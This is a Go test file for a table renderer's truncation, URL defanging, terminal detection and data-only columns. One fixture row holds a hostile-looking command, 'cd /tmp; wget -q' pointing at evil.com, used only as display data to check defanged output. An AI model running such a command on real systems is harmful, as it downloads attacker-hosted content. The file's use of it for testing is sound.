package render

import (
	"fmt"
	"os"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestTableFits(t *testing.T) {
	hash := strings.Repeat("0123456789abcdef", 4)
	columns := []Column{{Name: "shasum", Kind: Hash}, {Name: "count", Kind: Int}, {Name: "input"}, {Name: "url", Kind: URL}}
	rows := [][]any{
		{hash, 7, "cd /tmp; wget -q http://evil.com/" + strings.Repeat("x", 50), "http://evil.com/x"},
		{"", 12345, "密码密码密码密码密码密码", nil},
	}
	full := render(t, Table, columns, rows)
	for _, c := range []struct {
		width int
		want  string
	}{
		{0, full},
		{1000, full},
		{120, lines(
			`SHASUM`+strings.Repeat(" ", 60)+`COUNT  INPUT                     URL`,
			hash+`      7  cd /tmp; wget -q hxxp://…  hxxp://evil[.]com/x`,
			strings.Repeat(" ", 66)+`12345  密码密码密码密码密码密码`,
		)},
		{10, lines( // the hash and the number stay whole
			`SHASUM`+strings.Repeat(" ", 60)+`COUNT  INPUT     URL`,
			hash+`      7  cd /tmp…  hxxp://…`,
			strings.Repeat(" ", 66)+`12345  密码密…`,
		)},
	} {
		t.Run(fmt.Sprint(c.width), func(t *testing.T) {
			if diff := cmp.Diff(c.want, render(t, Table, columns, rows, Width(c.width))); diff != "" {
				t.Error(diff)
			}
		})
	}
	for _, f := range []Format{JSON, JSONL, CSV} {
		if render(t, f, columns, rows) != render(t, f, columns, rows, Width(10)) {
			t.Errorf("%s depends on the width", f)
		}
	}
}

// Off a terminal nothing is shortened, whatever the environment says.
func TestTableOffTerminal(t *testing.T) {
	t.Setenv("COLUMNS", "20")
	f, err := os.Create(t.TempDir() + "/out")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	long := strings.Repeat("x", 5000)
	w := New(f, Table, []Column{{Name: "a"}})
	if err := w.Row(long); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	got, err := os.ReadFile(f.Name())
	if err != nil || string(got) != "A\n"+long+"\n" {
		t.Errorf("%d bytes, %v", len(got), err)
	}
}

func TestTableOnlyData(t *testing.T) {
	columns := []Column{{Name: "a", OnlyData: true}, {Name: "b"}, {Name: "c", OnlyData: true}}
	if got := render(t, Table, columns, [][]any{{"1", "2", "3"}}); got != "B\n2\n" {
		t.Errorf("got %q", got)
	}
	if got := render(t, Table, columns[:1], [][]any{{"1"}}); got != "" {
		t.Errorf("got %q", got)
	}
}
